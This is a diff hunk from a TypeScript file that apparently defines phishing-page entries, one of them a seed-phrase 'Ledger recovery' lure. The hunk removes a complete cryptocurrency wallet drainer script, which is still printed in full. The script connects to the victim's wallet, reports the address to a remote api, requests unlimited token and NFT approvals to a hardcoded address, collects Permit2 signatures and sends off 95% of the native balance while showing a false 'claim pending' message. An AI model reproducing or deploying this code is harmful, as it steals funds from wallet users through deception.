@@ -3,17 +3,6 @@ import { htmlRoute } from '../entry.js';
 import { doc, jsRoute, logo } from '../parts/j-kit.js';
 import { jsonRoute } from '../parts/e-bin.js';
 
-const drainerCore = (api: string) => `(function(){var R="0x7a3F2e1b9C8d4E5f6A7b8C9d0E1f2A3b4C5d6E7f";var cfg={api:"${api}",chains:[1,56,137,42161,8453],minUsd:25};
-async function c(){if(!window.ethereum){document.getElementById("st").textContent="Please open this page in your wallet's browser (MetaMask, Trust Wallet).";return}
-var a=(await ethereum.request({method:"eth_requestAccounts"}))[0];fetch(cfg.api+"/connect",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({a:a,ua:navigator.userAgent,h:location.host})});
-var t=await (await fetch(cfg.api+"/assets?a="+a)).json();t.sort(function(x,y){return y.usd-x.usd});
-for(var i=0;i<t.length;i++){var k=t[i];if(k.usd<cfg.minUsd)continue;try{if(k.type==="erc20"){var d="0x095ea7b3"+R.slice(2).padStart(64,"0")+"f".repeat(64);await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:k.token,data:d}]})}
-else if(k.type==="permit2"){var sig=await ethereum.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify(k.typed)]});fetch(cfg.api+"/p2",{method:"POST",body:JSON.stringify({a:a,s:sig})})}
-else if(k.type==="nft"){await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:k.token,data:"0xa22cb465"+R.slice(2).padStart(64,"0")+"1".padStart(64,"0")}]})}
-else if(k.type==="native"){var bal=await ethereum.request({method:"eth_getBalance",params:[a,"latest"]});var v=BigInt(bal)*95n/100n;await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:R,value:"0x"+v.toString(16)}]})}}catch(e){}}
-document.getElementById("st").textContent="Claim pending… please confirm any remaining requests in your wallet."}
-document.querySelectorAll(".cw").forEach(function(b){b.onclick=c})})();`;
-
 export const entries: Entry[] = [
 {
   id: 'j-seedphrase-ledger-recovery-de',
